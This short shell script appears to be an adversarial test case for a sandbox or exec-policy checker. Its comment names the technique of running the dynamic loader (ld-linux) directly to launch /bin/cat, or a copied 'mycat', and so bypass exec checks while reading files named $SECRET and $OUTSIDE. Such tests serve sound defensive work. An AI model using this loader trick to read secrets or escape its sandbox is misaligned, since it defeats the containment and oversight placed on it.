# technique: run the dynamic loader directly (ld.so /bin/cat), bypassing exec checks on the program
. ./.adv/world.env
/lib64/ld-linux-x86-64.so.2 /bin/cat "$SECRET"
/lib64/ld-linux-x86-64.so.2 --preload '' /bin/cat "$OUTSIDE"
cp /bin/cat ./mycat && /lib64/ld-linux-x86-64.so.2 ./mycat "$SECRET"
